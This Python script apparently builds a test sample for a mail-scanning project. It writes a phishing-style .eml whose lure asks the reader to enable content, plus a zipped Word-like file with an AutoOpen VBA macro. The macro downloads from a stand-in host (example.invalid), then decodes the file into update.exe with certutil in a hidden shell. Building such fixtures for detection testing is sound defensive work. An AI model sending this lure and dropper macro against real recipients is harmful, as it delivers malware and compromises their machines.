#!/usr/bin/env python3
"""make_sample_mail.py - write examples/samples/invite.eml, the bundled sample mail: a lure body
and agenda.zip holding lecture.doc, a Word-like OLE2 file whose VBA project is a macro-dropper-
like AutoOpen macro (it downloads from example.invalid: harmless, for rule testing). The .eml is
committed (it is text); this script rebuilds it byte for byte."""
import base64, io, os, sys, zipfile
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(here, "..", "tests", "fixtures"))
import ole2vba  # noqa: E402

VBA = ('Attribute VB_Name = "ThisDocument"\r\n'
       'Sub AutoOpen()\r\n'
       '    Dim u As String, p As String\r\n'
       '    u = "http://downloads.example.invalid/agenda/update.txt"\r\n'
       '    p = Environ("TEMP") & "\\update.txt"\r\n'
       '    URLDownloadToFile 0, u, p, 0, 0\r\n'
       '    Shell("cmd /c certutil -decode " & p & " %TEMP%\\update.exe"), vbHide\r\n'
       'End Sub\r\n')
doc = ole2vba.macro_doc([("ThisDocument", VBA, True)], text=b"Quarterly meeting agenda (sample).")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w", zipfile.ZIP_DEFLATED) as z:
    zi = zipfile.ZipInfo("lecture.doc", date_time=(2024, 1, 1, 9, 0, 0))
    zi.compress_type = zipfile.ZIP_DEFLATED
    z.writestr(zi, doc)
b64 = base64.encodebytes(zb.getvalue()).decode().replace("\n", "\r\n")
mail = ("From: \"Conference Office\" <office@example.invalid>\r\n"
        "To: staff@example.org\r\n"
        "Subject: Agenda for Monday's meeting\r\n"
        "Date: Mon, 1 Jan 2024 09:00:00 +0000\r\n"
        "Message-ID: <agenda-1@example.invalid>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"=_agenda\"\r\n\r\n"
        "--=_agenda\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n\r\n"
        "Dear colleague,\r\n\r\nplease open the attached agenda and enable content to see the\r\n"
        "speaker list.\r\n\r\nConference Office\r\n"
        "--=_agenda\r\n"
        "Content-Type: application/zip; name=\"agenda.zip\"\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "Content-Disposition: attachment; filename=\"agenda.zip\"\r\n\r\n" + b64 +
        "--=_agenda--\r\n")
open(os.path.join(here, "samples", "invite.eml"), "wb").write(mail.encode())
